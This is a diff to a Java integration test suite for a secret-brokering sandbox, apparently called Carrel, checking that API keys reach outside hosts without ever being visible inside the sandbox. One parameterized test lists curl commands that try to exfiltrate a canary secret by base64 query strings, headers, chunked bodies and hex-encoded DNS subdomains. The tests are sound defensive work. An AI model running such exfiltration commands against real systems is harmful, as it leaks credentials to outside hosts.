@@ -25,6 +25,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
 import org.junit.jupiter.params.provider.ValueSource;
 
 /**
@@ -69,7 +70,7 @@ class BrokerIT {
   private Map<String, String> settings() {
     return Map.of(
         "CARREL_ENGINE_ALLOWED",
-        "native,process",
+        Carrel.ENGINE + ",process",
         "CARREL_EGRESS_HOSTS",
         API + "=127.0.0.1," + OTHER + "=127.0.0.1",
         "CARREL_EGRESS_UPSTREAM_CA",
@@ -95,7 +96,7 @@ class BrokerIT {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"native", "process"})
+  @MethodSource("dev.carrel.e2e.Carrel#engines")
   void n10TheHostGetsTheValueAndTheSandboxDoesNot(String engine) {
     try (Box box = sandbox(api, engine, "API_KEY")) {
       for (String path : new String[] {"/whole", "/chunked"}) {
@@ -119,7 +120,7 @@ class BrokerIT {
 
   @Test
   void c03NothingInTheSandboxHasTheValue() {
-    try (Box box = sandbox(api, "native", "API_KEY")) {
+    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
       assertThat(box.shell("printenv API_KEY")).matches("carrel-secret-[0-9a-f]{40}\nexit 0");
       JsonNode cell = box.python("import os; os.environ['API_KEY'][::-1]");
       assertThat(cell.toString()).contains("-terces-lerrac").doesNotContain(reversed(VALUE));
@@ -150,7 +151,7 @@ class BrokerIT {
 
   @Test
   void n10OtherProgramsKnowTheAuthority() {
-    try (Box box = sandbox(api, "native", "API_KEY")) {
+    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
       String curl = "curl -s -H \"Authorization: Bearer $API_KEY\" " + url(API, "/") + " | rev";
       assertThat(reversed(box.shell(curl))).contains("Bearer ***").doesNotContain(VALUE);
       assertThat(site.received.getLast()).contains("Bearer " + VALUE);
@@ -175,7 +176,7 @@ class BrokerIT {
   }
 
   @ParameterizedTest
-  @ValueSource(strings = {"native", "process"})
+  @MethodSource("dev.carrel.e2e.Carrel#engines")
   void n10OtherHostsGetThePlaceholderAndAreNotLookedInto(String engine) throws Exception {
     try (Box box = sandbox(api, engine, "API_KEY");
         Box without = sandbox(api, engine)) {
@@ -198,7 +199,7 @@ class BrokerIT {
 
   @Test
   void n05OneNameAllTheWay() {
-    try (Box box = sandbox(api, "native", "API_KEY")) {
+    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
       assertThat(ask(box, "say %s %s %s".formatted(target(API), OTHER, target(API))))
           .startsWith("failed");
       assertThat(ask(box, "say %s %s %s".formatted(target(API), API, target(OTHER))))
@@ -215,11 +216,12 @@ class BrokerIT {
       strings = {
         "curl -s \"http://PLAIN/?x=$(printf %s \"$BAIT\" | base64 | tr -d =)\"",
         "curl -s -H \"X-Log: $BAIT\" https://SECURE/",
-        "printf 'begin %s last-words' \"$BAIT\" | curl -s -H 'Transfer-Encoding: chunked' -d @- http://PLAIN/",
+        "printf 'begin %s last-words' \"$BAIT\" | curl -s -H 'Transfer-Encoding: chunked' -d @-"
+            + " http://PLAIN/",
         "curl -s https://$(printf %s \"$BAIT\" | od -An -tx1 | tr -d ' \\n').example.com/"
       })
   void n09CanaryFreezesTheSandboxAndDoesNotLeave(String leak) {
-    try (Box box = sandbox(api, "native", "API_KEY", "BAIT")) {
+    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY", "BAIT")) {
       String command =
           leak.replace("PLAIN", API + ":" + site.plainPort()).replace("SECURE", target(API));
       ObjectNode body = Api.object().put("command", command + "; sleep 1000");
@@ -238,7 +240,7 @@ class BrokerIT {
 
   @Test
   void useIsOnRecordWithoutTheValue() {
-    try (Box box = sandbox(api, "native", "API_KEY")) {
+    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
       assertThat(ask(box, "bearer " + url(API, "/"))).startsWith("200");
       String path = "/api/v1/audit?sandbox=" + box.id();
       Eventually.holds(
@@ -259,7 +261,7 @@ class BrokerIT {
     ServerProcess first = Carrel.start(own, settings());
     try (Api before = new Api(first.address(), first.token())) {
       addKey(before, VALUE);
-      Box box = sandbox(before, "native");
+      Box box = sandbox(before, Carrel.ENGINE);
       id = box.id();
       ObjectNode keep = Api.object().put("command", "printf %s $API_KEY > placeholder");
       keep.putArray("secrets").add("API_KEY");
